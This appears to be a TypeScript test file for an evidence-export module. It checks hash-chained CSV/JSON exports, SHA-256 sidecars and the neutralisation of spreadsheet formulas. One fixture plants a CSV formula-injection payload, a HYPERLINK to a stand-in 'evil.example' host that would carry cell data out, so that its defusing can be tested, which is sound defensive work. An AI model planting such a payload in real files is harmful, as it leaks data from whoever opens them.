import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  canonicalBytes,
  chainHash,
  GENESIS_HASH,
  type FieldValue,
} from '../../src/evidence/chain/canonical.js';
import { CSV_COLUMNS, exportEvidence, neutraliseFormula } from '../../src/evidence/export/export.js';
import { RECORD_TYPES } from '../../src/evidence/chain/record-types.js';
import { newStore, PROFILE_HASH, provision, tempDir, TEST_KEY_ID } from './helpers.js';

function storeWithHostileText(): string {
  const store = newStore(join(tempDir(), 'line1.db'));
  provision(store, 'SN-1');
  store.recordPolicyRejection({
    batchId: 'B1',
    serial: 'SN-2',
    keyId: TEST_KEY_ID,
    schemeVersion: 1,
    attempt: 0,
    rule: '=HYPERLINK("http://evil.example/?"&A1)',
    detail: '\'already quoted, with a comma, and a "quote"\nand a new line',
    stationId: 'line1',
    operator: '-1+2',
  });
  provision(store, 'SN-2');
  store.ensureBatch({
    batchId: 'B2',
    productType: 'router',
    profileId: 'acme-router',
    profileRevision: 1,
    profileHash: PROFILE_HASH,
    supportEndDate: '2031-06-30',
  });
  store.close();
  return store.file;
}

/** Re-computes every row's hash from the CSV cells alone, as an auditor would (docs/evidence.md). */
function rehashCsv(rows: Record<string, string>[]): { seq: number; ok: boolean }[] {
  let prev = GENESIS_HASH;
  return rows.map((row) => {
    const type = RECORD_TYPES.find((t) => t.name === row['record_type']);
    if (!type) throw new Error(`unknown record type ${row['record_type']}`);
    const cell = (name: string): string => {
      const text = row[name] ?? '';
      return text.startsWith("'") ? text.slice(1) : text;
    };
    const fields = type.fields.map((f): readonly [typeof f.kind, FieldValue] => {
      const text = cell(f.name);
      if (text === '') return [f.kind, null];
      return [f.kind, f.kind === 'int' || f.kind === 'real3' ? Number(text) : text];
    });
    const hash = chainHash(cell('prev_hash'), canonicalBytes(type.tag, fields));
    const ok = hash === cell('row_hash') && cell('prev_hash') === prev;
    prev = cell('row_hash');
    return { seq: Number(cell('seq')), ok };
  });
}

describe('evidence export', () => {
  it('writes CSV whose every row re-hashes to its row_hash, neutralising formulas reversibly', async () => {
    const file = storeWithHostileText();
    const out = join(tempDir(), 'all.csv');
    const summary = await exportEvidence(file, { format: 'csv', out });
    const text = readFileSync(out, 'utf8');
    const rows = parse(text, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual(CSV_COLUMNS);
    expect(rows).toHaveLength(summary.records);
    expect(summary.records).toBe(summary.head.seq);
    expect(rehashCsv(rows).every((r) => r.ok)).toBe(true);
    const rejection = rows.find((r) => r['record_type'] === 'rejection');
    expect(rejection?.['rule']).toBe('\'=HYPERLINK("http://evil.example/?"&A1)');
    expect(rejection?.['operator']).toBe("'-1+2");
    expect(rejection?.['detail']?.startsWith("''already quoted")).toBe(true);
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('writes a sidecar with the SHA-256 of the file and the chain head, checkable with sha256sum', async () => {
    const file = storeWithHostileText();
    const dir = tempDir();
    const summary = await exportEvidence(file, { format: 'jsonl', out: join(dir, 'all.jsonl') });
    const sidecar = readFileSync(summary.sidecar, 'utf8');
    const digest = createHash('sha256').update(readFileSync(summary.out)).digest('hex');
    expect(summary.sha256).toBe(digest);
    expect(sidecar).toContain(`${digest}  all.jsonl\n`);
    expect(sidecar).toContain(`# chain head seq=${summary.head.seq} hash=${summary.head.hash}`);
    if (spawnSync('sha256sum', ['--version']).status === 0) {
      expect(execFileSync('sha256sum', ['-c', 'all.jsonl.sha256'], { cwd: dir, encoding: 'utf8' })).toMatch(
        /OK/,
      );
    }
    const lines = readFileSync(summary.out, 'utf8').trimEnd().split('\n');
    expect(lines).toHaveLength(summary.records);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({
      record_type: 'station',
      seq: 1,
      prev_hash: GENESIS_HASH,
    });
  });

  it('filters by batch and time, and writes JSON with the head', async () => {
    const file = storeWithHostileText();
    const out = join(tempDir(), 'b2.json');
    await exportEvidence(file, { format: 'json', out, batchId: 'B2' });
    const doc = JSON.parse(readFileSync(out, 'utf8')) as {
      head: { seq: number };
      records: { batch_id: string }[];
    };
    expect(doc.head.seq).toBe(9);
    expect(doc.records.map((r) => r.batch_id)).toEqual(['B2']);
    const later = join(tempDir(), 'later.jsonl');
    const none = await exportEvidence(file, {
      format: 'jsonl',
      out: later,
      since: '2999-01-01T00:00:00.000Z',
    });
    expect(none.records).toBe(0);
  });

  const hasPython = spawnSync('python3', ['--version']).status === 0;
  it.skipIf(!hasPython)(
    'is re-verified by the Python script in docs/evidence.md, which also spots an edit',
    async () => {
      const doc = readFileSync('docs/evidence.md', 'utf8');
      const script = /```python\n([\s\S]*?)```/.exec(doc)?.[1] ?? '';
      expect(script).toContain('hashlib.sha256');
      const dir = tempDir();
      writeFileSync(join(dir, 'verify_export.py'), script);
      const summary = await exportEvidence(storeWithHostileText(), {
        format: 'csv',
        out: join(dir, 'all.csv'),
      });
      const ok = spawnSync('python3', ['verify_export.py', 'all.csv'], { cwd: dir, encoding: 'utf8' });
      expect(ok.stderr).toBe('');
      expect(ok.stdout.trim()).toBe(`${summary.records} records OK; head ${summary.head.hash}`);
      writeFileSync(join(dir, 'edited.csv'), readFileSync(summary.out, 'utf8').replace(',SN-2,', ',SN-3,'));
      const edited = spawnSync('python3', ['verify_export.py', 'edited.csv'], { cwd: dir, encoding: 'utf8' });
      expect(edited.status).toBe(1);
      expect(edited.stderr).toMatch(/^seq \d+: the fields do not match row_hash/);
    },
  );

  it('says in words why it cannot write, and leaves no partial export or sidecar behind', async () => {
    const store = newStore();
    provision(store, 'SN-1');
    store.close();
    const missing = join(tempDir(), 'no-such-dir', 'out.csv');
    await expect(exportEvidence(store.file, { format: 'csv', out: missing })).rejects.toThrow(
      /cannot write .*out\.csv: no such directory .*no-such-dir/,
    );
    const dir = tempDir();
    const out = join(dir, 'out.csv');
    mkdirSync(`${out}.sha256`); // the sidecar's path is taken by a directory: its write fails after the export
    await expect(exportEvidence(store.file, { format: 'csv', out })).rejects.toThrow(
      /out\.csv\.sha256: is a directory/,
    );
    expect(readdirSync(dir)).toEqual(['out.csv', 'out.csv.sha256']); // the export is whole; the sidecar is refused
  });

  it('neutralises exactly the cells a spreadsheet would evaluate', () => {
    expect(
      ['=1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', "'x", 'x=1', '1-2', ''].map(neutraliseFormula),
    ).toEqual(["'=1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "''x", 'x=1', '1-2', '']);
  });
});
